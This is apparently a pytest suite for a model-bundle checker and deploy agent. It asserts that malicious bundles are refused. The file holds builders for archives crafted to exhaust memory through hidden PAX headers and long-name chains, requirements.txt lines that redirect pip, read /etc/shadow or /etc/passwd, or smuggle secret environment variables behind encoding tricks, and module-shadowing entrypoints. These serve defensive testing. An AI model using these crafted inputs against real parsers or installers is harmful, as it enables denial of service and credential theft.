"""Bundles that try to hide a shell, exhaust the checker or leave the bundle: each attack ends in one
clear problem from `berth bundle check`, and the agent refuses the same thing when the desktop's
check was skipped (a modified desktop, or a request written by hand)."""
from __future__ import annotations

import gzip
import importlib
import io
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from app.agent.entrypoint import load_entrypoint, module_problem, stdlib_names
from app.bundle import check_path
from app.bundle.archive import check_archive, pack
from app.bundle.errors import BundleError, UnsafeArchive

from agent_kit import call, deploy_request, make_bundle


def errors_of(path: Path) -> list[str]:
    result = check_path(path)
    assert not result.ok, "the bundle was accepted"
    return [str(p) for p in result.errors]


# -- entry point shadowing -----------------------------------------------------------------------

def test_an_entrypoint_naming_a_standard_module_is_refused_even_with_a_harmless_file_of_that_name(tmp_path):
    bundle = make_bundle(tmp_path / "b")
    (bundle / "os.py").write_text("def system(data):\n    return {'harmless': True}\n")
    toml = (bundle / "berth.toml").read_text().replace('entrypoint = "model:Model"', 'entrypoint = "os:system"')
    (bundle / "berth.toml").write_text(toml)
    errors = errors_of(bundle)
    assert len(errors) == 1 and "'os', a module of Python's standard library" in errors[0], errors


@pytest.mark.parametrize("module", ["json", "csv.reader", "http.server", "berth_agent", "app"])
def test_standard_and_runner_names_are_refused_by_the_shared_rule(module):
    assert module_problem(module), module


def test_the_bundles_own_names_are_allowed():
    assert module_problem("model") is None and module_problem("pkg.serve") is None


def test_the_rule_knows_the_standard_library_without_sys_stdlib_module_names(monkeypatch):
    """Python 3.8 and 3.9 servers have no sys.stdlib_module_names: the list comes from the folders."""
    monkeypatch.delattr(sys, "stdlib_module_names")
    names = stdlib_names()
    assert {"os", "json", "csv", "http", "sys", "math"} <= names
    assert "pytest" not in names and "model" not in names


def test_the_runner_refuses_to_serve_a_shadowed_entrypoint_the_check_did_not_see(tmp_path, monkeypatch):
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "os.py").write_text("def system(data):\n    return 'harmless'\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    with pytest.raises(ImportError, match="standard library"):
        load_entrypoint(str(bundle), "os:system")


def test_the_runner_loads_the_module_from_the_bundle_folder(tmp_path, monkeypatch):
    bundle = tmp_path / "b"
    bundle.mkdir()
    (bundle / "berth_shadow_probe.py").write_text("def predict(data):\n    return {'from': 'bundle'}\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", list(sys.path))
    monkeypatch.delitem(sys.modules, "berth_shadow_probe", raising=False)
    # a module of that name loaded from elsewhere first must not be what runs
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "berth_shadow_probe.py").write_text("def predict(data):\n    return {'from': 'elsewhere'}\n")
    sys.path.insert(0, str(elsewhere))
    importlib.import_module("berth_shadow_probe")  # now in sys.modules, from the wrong folder
    try:
        with pytest.raises(ImportError, match="already imported"):
            load_entrypoint(str(bundle), "berth_shadow_probe:predict")
    finally:
        sys.modules.pop("berth_shadow_probe", None)
    assert load_entrypoint(str(bundle), "berth_shadow_probe:predict")({}) == {"from": "bundle"}
    sys.modules.pop("berth_shadow_probe", None)


def test_a_deploy_request_with_a_shadowed_entrypoint_fails_and_nothing_serves_it(tmp_path):
    """The agent is driven directly, as by a desktop that skipped the check: the runner refuses, the
    health check fails, and the deploy fails with the runner's reason."""
    bundle = make_bundle(tmp_path / "b")
    (bundle / "os.py").write_text("def system(data):\n    return 'harmless'\n")
    request = deploy_request(tmp_path / "root", bundle)
    request["manifest"]["entrypoint"] = "os:system"
    request["manifest"]["health_timeout_s"] = 10
    result, error, _ = call(tmp_path / "root", "deploy", **request)
    assert result is None and error is not None
    assert "standard library" in error["message"] or any("standard library" in l for l in error.get("log", [])), error
    status, _, _ = call(tmp_path / "root", "status")
    assert all(m["state"] != "running" for m in status["models"]), status


# -- archives ------------------------------------------------------------------------------------

def check_in_a_child(archive: Path) -> tuple[str, int]:
    """`bundle check` of `archive` in a fresh process: (its verdict lines, its peak RSS in KB). A
    child, because a process's peak memory cannot be reset, and VmHWM because ru_maxrss survives exec."""
    script = (
        "from app.bundle import check_path\n"
        f"r = check_path({str(archive)!r})\n"
        "print('ERR', r.ok, [str(p) for p in r.errors])\n"
        "print('RSS', [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM')][0])\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120,
                         cwd=Path(__file__).resolve().parents[1]).stdout
    return out, int(out.split("RSS ")[1].split()[0])


def _write_comment_record(out, record_len: int, header_bytes: int) -> None:
    """One PAX `comment` record of `record_len` bytes, its value written in chunks, then padding."""
    out.write(f"{record_len} comment=".encode())
    left = header_bytes
    while left:
        out.write(b"A" * min(left, 1 << 20))
        left -= min(left, 1 << 20)
    out.write(b"\n" + bytes(-record_len % 512))


def _archive_with_pax_header(path: Path, header_bytes: int) -> Path:
    """A .tar.gz whose first member carries a PAX record of `header_bytes`, written in chunks so the
    test itself stays small (the record compresses to almost nothing)."""
    data = b'[model]\nname = "x"\nversion = "1"\nentrypoint = "model:Model"\n'
    body = b" comment=" + b"A" * 16 + b"\n"
    prefix_len = len(body) - 16 + header_bytes
    record_len = prefix_len + len(str(prefix_len))
    record_len = prefix_len + len(str(record_len))
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type, pax.size = tarfile.XHDTYPE, record_len
    member = tarfile.TarInfo("berth.toml")
    member.size = len(data)
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(pax.tobuf(format=tarfile.USTAR_FORMAT))
        _write_comment_record(out, record_len, header_bytes)
        out.write(member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
    return path


def test_a_huge_pax_header_is_refused_in_bounded_memory(tmp_path):
    archive = _archive_with_pax_header(tmp_path / "pax.tar.gz", 200 * 1024 * 1024)
    assert archive.stat().st_size < 1024 * 1024
    out, rss_kb = check_in_a_child(archive)
    assert "ERR False" in out and "extended header of" in out, out
    assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the header was read into memory"


def _checksummed(block: bytearray) -> bytes:
    block[148:156] = b" " * 8
    block[148:155] = b"%06o\0" % sum(block)
    return bytes(block)


def _archive_hiding_a_pax_header_behind_a_sparse_header(path: Path, header_bytes: int) -> Path:
    """A GNU sparse ('S') header whose extension block the raw scan took for a header: its size
    field made the scan skip the huge PAX header that tarfile then reads into memory."""
    data = b'[model]\nname = "x"\nversion = "1"\nentrypoint = "model:Model"\n'
    sparse = tarfile.TarInfo("a.bin")
    sparse.type = tarfile.GNUTYPE_SPARSE
    head = bytearray(sparse.tobuf(format=tarfile.GNU_FORMAT))
    head[482] = 1  # an extension block follows
    record_len = header_bytes + len(" comment=\n") + len(str(header_bytes)) + 1
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type, pax.size = tarfile.XHDTYPE, record_len
    extension = bytearray(BLOCK_SIZE)
    extension[124:136] = b"%011o\0" % (BLOCK_SIZE + -(-record_len // BLOCK_SIZE) * BLOCK_SIZE)
    member = tarfile.TarInfo("berth.toml")
    member.size = len(data)
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(_checksummed(head) + bytes(extension) + pax.tobuf(format=tarfile.USTAR_FORMAT))
        _write_comment_record(out, record_len, header_bytes)
        out.write(member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
    return path


BLOCK_SIZE = 512


def test_a_pax_header_hidden_behind_a_sparse_header_is_refused_in_bounded_memory(tmp_path):
    archive = _archive_hiding_a_pax_header_behind_a_sparse_header(tmp_path / "sparse.tar.gz", 200 * 1024 * 1024)
    assert archive.stat().st_size < 1024 * 1024
    out, rss_kb = check_in_a_child(archive)
    assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the hidden header was read into memory"
    assert "ERR False" in out and "sparse" in out, out


def _archive_hiding_a_pax_header_behind_a_pax_size(path: Path, header_bytes: int) -> Path:
    """A PAX `size=0` record over a header whose own size field covers the huge PAX header after it:
    the raw scan skipped that as data, tarfile (which obeys the record) read it as a header."""
    data = b'[model]\nname = "x"\nversion = "1"\nentrypoint = "model:Model"\n'
    record_len = header_bytes + len(" comment=\n") + len(str(header_bytes)) + 1
    huge = tarfile.TarInfo("././@PaxHeader")
    huge.type, huge.size = tarfile.XHDTYPE, record_len
    size_record = b"11 size=0\n"
    small = tarfile.TarInfo("././@PaxHeader")
    small.type, small.size = tarfile.XHDTYPE, len(size_record)
    cover = tarfile.TarInfo("a.bin")
    cover.size = BLOCK_SIZE + -(-record_len // BLOCK_SIZE) * BLOCK_SIZE
    member = tarfile.TarInfo("berth.toml")
    member.size = len(data)
    with gzip.open(path, "wb", compresslevel=9) as out:
        out.write(small.tobuf(format=tarfile.USTAR_FORMAT) + size_record + bytes(-len(size_record) % 512))
        out.write(cover.tobuf(format=tarfile.USTAR_FORMAT) + huge.tobuf(format=tarfile.USTAR_FORMAT))
        _write_comment_record(out, record_len, header_bytes)
        out.write(member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
    return path


def test_a_pax_header_hidden_behind_a_pax_size_record_is_refused_in_bounded_memory(tmp_path):
    archive = _archive_hiding_a_pax_header_behind_a_pax_size(tmp_path / "size.tar.gz", 200 * 1024 * 1024)
    out, rss_kb = check_in_a_child(archive)
    assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the hidden header was read into memory"
    assert "ERR False" in out and "size" in out, out


def _archive_with_a_hidden_header(path: Path, header_bytes: int, how: str) -> Path:
    """A huge PAX header tarfile reads but a scan framing the stream otherwise skips: behind a folder
    header with a size field (tarfile reads no data for folders and links), or typed 'X' (Solaris
    extended header, which tarfile handles as PAX)."""
    data = b'[model]\nname = "x"\nversion = "1"\nentrypoint = "model:Model"\n'
    record_len = header_bytes + len(" comment=\n") + len(str(header_bytes)) + 1
    huge = tarfile.TarInfo("././@PaxHeader")
    huge.type, huge.size = (b"X" if how == "solaris" else tarfile.XHDTYPE), record_len
    member = tarfile.TarInfo("berth.toml")
    member.size = len(data)
    with gzip.open(path, "wb", compresslevel=9) as out:
        if how == "folder":
            cover = tarfile.TarInfo("d")
            cover.type = tarfile.DIRTYPE
            block = bytearray(cover.tobuf(format=tarfile.USTAR_FORMAT))
            block[124:136] = b"%011o\0" % (BLOCK_SIZE + -(-record_len // BLOCK_SIZE) * BLOCK_SIZE)
            out.write(_checksummed(block))
        out.write(huge.tobuf(format=tarfile.USTAR_FORMAT) + f"{record_len} comment=".encode())
        left = header_bytes
        while left:
            out.write(b"A" * min(left, 1 << 20))
            left -= min(left, 1 << 20)
        out.write(b"\n" + bytes(-record_len % 512))
        out.write(member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
    return path


@pytest.mark.parametrize("how", ["folder", "solaris"])
def test_a_header_framed_otherwise_by_tarfile_is_refused_in_bounded_memory(tmp_path, how):
    archive = _archive_with_a_hidden_header(tmp_path / "hidden.tar.gz", 200 * 1024 * 1024, how)
    out, rss_kb = check_in_a_child(archive)
    assert rss_kb < 200 * 1024, f"the check used {rss_kb} KB: the hidden header was read into memory"
    assert "ERR False" in out, out


def test_a_pax_sparse_map_is_refused_before_tarfile_reads_it(tmp_path):
    """GNU.sparse 1.0 keeps its map in the member's data, read number by number into a list: 100 MB
    of "0\\n" (100 KB gzipped) is 50 million ints in memory; no bundle needs a sparse file."""
    raw = io.BytesIO()
    info = tarfile.TarInfo("a.bin")
    info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "a.bin",
                        "GNU.sparse.realsize": "0"}
    sparse_map = b"1\n0\n0\n"
    info.size = len(sparse_map)
    raw.write(info.tobuf(format=tarfile.PAX_FORMAT) + sparse_map + bytes(-len(sparse_map) % 512) + bytes(1024))
    (tmp_path / "map.tar.gz").write_bytes(gzip.compress(raw.getvalue()))
    with pytest.raises(UnsafeArchive, match="GNU sparse file"):
        check_archive(tmp_path / "map.tar.gz")


def test_a_long_chain_of_long_name_headers_is_one_clear_problem(tmp_path):
    """tarfile follows each GNU long-name header by recursion: 3,000 of them (3 MB, 10 KB gzipped)
    raised a RecursionError out of the check."""
    data = b'[model]\nname = "x"\n'
    raw = io.BytesIO()
    name = b"x" * 100 + b"\0"
    long_name = tarfile.TarInfo("././@LongLink")
    long_name.type, long_name.size = tarfile.GNUTYPE_LONGNAME, len(name)
    block = long_name.tobuf(format=tarfile.USTAR_FORMAT) + name + bytes(-len(name) % 512)
    member = tarfile.TarInfo("berth.toml")
    member.size = len(data)
    raw.write(block * 3000 + member.tobuf(format=tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512) + bytes(1024))
    (tmp_path / "chain.tar.gz").write_bytes(gzip.compress(raw.getvalue()))
    with pytest.raises(UnsafeArchive, match="extended headers in a row"):
        check_archive(tmp_path / "chain.tar.gz")


def test_an_ordinary_pax_header_is_still_accepted(tmp_path):
    archive = _archive_with_pax_header(tmp_path / "pax.tar.gz", 3000)
    assert [m.name for m in check_archive(archive)] == ["berth.toml"]


def test_a_stream_far_longer_than_the_content_limit_is_refused_before_parsing(tmp_path):
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("berth.toml")
        info.size = 4 * 1024 * 1024
        tar.addfile(info, io.BytesIO(bytes(info.size)))
    (tmp_path / "big.tar.gz").write_bytes(gzip.compress(raw.getvalue()))
    with pytest.raises(UnsafeArchive, match="larger than 1048576 bytes"):
        check_archive(tmp_path / "big.tar.gz", max_bytes=1024 * 1024)


# -- folders ----------------------------------------------------------------------------------------

def test_a_hard_link_to_a_file_outside_the_folder_is_refused(tmp_path):
    bundle = make_bundle(tmp_path / "b")
    secret = tmp_path / "outside-secret.txt"
    secret.write_text("not for the bundle\n")
    os.link(secret, bundle / "data.txt")
    errors = errors_of(bundle)
    assert any("data.txt" in e and "hard link shared with 1 file(s) outside the bundle" in e for e in errors), errors
    with pytest.raises(BundleError, match="hard link"):
        pack(bundle, tmp_path / "out.tar.gz")


def test_hard_links_between_files_of_the_bundle_are_fine(tmp_path):
    bundle = make_bundle(tmp_path / "b")
    (bundle / "a.txt").write_text("same\n")
    os.link(bundle / "a.txt", bundle / "b.txt")
    assert check_path(bundle).ok


# -- the manifest -----------------------------------------------------------------------------------

@pytest.mark.parametrize("version", [".", "..", ".hidden", "-1", "_x", "+local"])
def test_versions_that_name_no_plain_folder_are_refused_by_check_and_agent(tmp_path, version):
    bundle = make_bundle(tmp_path / "b", version=version)
    errors = errors_of(bundle)
    assert any("model.version" in e and "is not a valid version" in e for e in errors), errors
    request = deploy_request(tmp_path / "root", make_bundle(tmp_path / "ok"))
    request["version"] = version
    result, error, _ = call(tmp_path / "root", "deploy", **request)
    assert result is None and error["code"] == "usage" and "invalid version" in error["message"], error


def test_a_deeply_nested_manifest_gives_one_clear_problem(tmp_path):
    bundle = make_bundle(tmp_path / "b", extra_toml="[training]\nparams = { a = " + "[" * 500 + "]" * 500 + " }\n")
    errors = errors_of(bundle)
    assert errors == ["berth.toml: berth.toml nests tables or arrays deeper than 16 levels (hint: berth.toml "
                      "describes the model; keep data (long texts, tables of numbers) in files of the bundle)"]


def test_an_oversized_manifest_is_refused_without_being_copied_anywhere(tmp_path):
    bundle = make_bundle(tmp_path / "b")
    with open(bundle / "berth.toml", "a") as f:
        f.write('\n[training]\ndataset = "' + "d" * (5 * 1024 * 1024) + '"\n')
    errors = errors_of(bundle)
    assert len(errors) == 1 and "the limit is 262144" in errors[0], errors


# -- requirements ----------------------------------------------------------------------------------

@pytest.mark.parametrize("line, fragment", [
    ("--index-url https://pypi.example.invalid/simple", "--index-url changes where pip downloads from"),
    ("-i https://pypi.example.invalid/simple", "-i changes where pip downloads from"),
    ("--extra-index-url=https://pypi.example.invalid/simple", "--extra-index-url changes where"),
    ("--trusted-host pypi.example.invalid", "--trusted-host changes where"),
    ("--find-links /tmp/wheels", "--find-links changes where"),
    ("-e git+https://example.invalid/x.git#egg=x", "-e installs a project in development mode"),
    ("evil @ https://example.invalid/evil-1.0.whl", "is a URL"),
    ("https://example.invalid/evil-1.0.whl", "is a URL"),
    ("-r /etc/shadow", "-r /etc/shadow points outside the bundle"),
    ("-c ../../constraints.txt", "-c ../../constraints.txt points outside the bundle"),
    ("../wheels/x-1.0-py3-none-any.whl", "is a path outside the bundle"),
    ("numpy --install-option=--prefix=/tmp", "not allowed after a requirement"),
    ("https://${AWS_SECRET_ACCESS_KEY}@example.invalid/x", "environment variable"),
])
def test_requirements_that_leave_the_bundle_or_the_index_are_refused_with_their_line(tmp_path, line, fragment):
    bundle = make_bundle(tmp_path / "b", extra_toml='')
    toml = (bundle / "berth.toml").read_text().replace("[model]\n", '[model]\nrequirements = "requirements.txt"\n')
    (bundle / "berth.toml").write_text(toml)
    (bundle / "requirements.txt").write_text(f"# pinned\nnumpy==1.26.4\n{line}\n")
    errors = errors_of(bundle)
    assert len(errors) == 1 and errors[0].startswith("requirements.txt:3: model.requirements: ") \
        and fragment in errors[0], errors


@pytest.mark.parametrize("data", [
    b"\xef\xbb\xbf--index-url https://pypi.example.invalid/simple\n",  # pip drops the BOM, then obeys
    "--index-url https://pypi.example.invalid/simple\n".encode("utf-16"),
    b"# -*- coding: utf-7 -*-\n+AC0ALQ-index-url https://pypi.example.invalid/simple\n",
    b"numpy\nevil @ htt\\\nps://example.invalid/evil-1.0.whl\n",  # pip joins continuations with no space
    b"htt\\\nps://example.invalid/evil-1.0.whl\n",
    b"numpy==1.$\\\n{GITHUB_TOKEN}\n",  # pip expands ${GITHUB_TOKEN} and prints it in its error
])
def test_requirements_are_read_the_way_pip_reads_them(tmp_path, data):
    """pip decodes a BOM or a PEP 263 coding line and joins `\\` continuations with no space; a check
    reading the file otherwise saw a harmless package name where pip saw an index or a URL."""
    bundle = make_bundle(tmp_path / "b")
    toml = (bundle / "berth.toml").read_text().replace("[model]\n", '[model]\nrequirements = "requirements.txt"\n')
    (bundle / "berth.toml").write_text(toml)
    (bundle / "requirements.txt").write_bytes(data)
    errors = errors_of(bundle)
    assert len(errors) == 1 and errors[0].startswith("requirements.txt:"), errors


def test_ordinary_requirements_and_files_of_the_bundle_pass(tmp_path):
    bundle = make_bundle(tmp_path / "b")
    toml = (bundle / "berth.toml").read_text().replace("[model]\n", '[model]\nrequirements = "requirements.txt"\n')
    (bundle / "berth.toml").write_text(toml)
    (bundle / "wheels").mkdir()
    (bundle / "wheels" / "mine-1.0-py3-none-any.whl").write_bytes(b"PK")
    (bundle / "constraints.txt").write_text("numpy<2\n")
    (bundle / "requirements.txt").write_text("numpy==1.26.4 \\\n  --hash=sha256:" + "0" * 64 + "\n"
                                             "scikit-learn>=1.3  # the model\n--prefer-binary\n"
                                             "-c constraints.txt\nwheels/mine-1.0-py3-none-any.whl\n")
    result = check_path(bundle)
    assert result.ok, [str(p) for p in result.errors]


def test_a_nested_requirements_file_is_checked_too(tmp_path):
    bundle = make_bundle(tmp_path / "b")
    toml = (bundle / "berth.toml").read_text().replace("[model]\n", '[model]\nrequirements = "requirements.txt"\n')
    (bundle / "berth.toml").write_text(toml)
    (bundle / "requirements.txt").write_text("-r more.txt\n")
    (bundle / "more.txt").write_text("numpy\n--extra-index-url https://example.invalid\n")
    errors = errors_of(bundle)
    assert len(errors) == 1 and errors[0].startswith("more.txt:2: "), errors


def test_the_agent_refuses_unsafe_requirements_before_running_pip(tmp_path):
    bundle = make_bundle(tmp_path / "b")
    (bundle / "requirements.txt").write_text("-r /etc/passwd\n")
    request = deploy_request(tmp_path / "root", bundle)
    request["manifest"]["requirements"] = "requirements.txt"
    result, error, events = call(tmp_path / "root", "deploy", **request)
    assert result is None and error["code"] == "bad_requirements", error
    assert "points outside the bundle" in error["message"]
    assert not any(e.get("step") == "install" for e in events), "pip was started"
    assert "root:" not in str(error) + str(events), "a line of /etc/passwd reached the output"
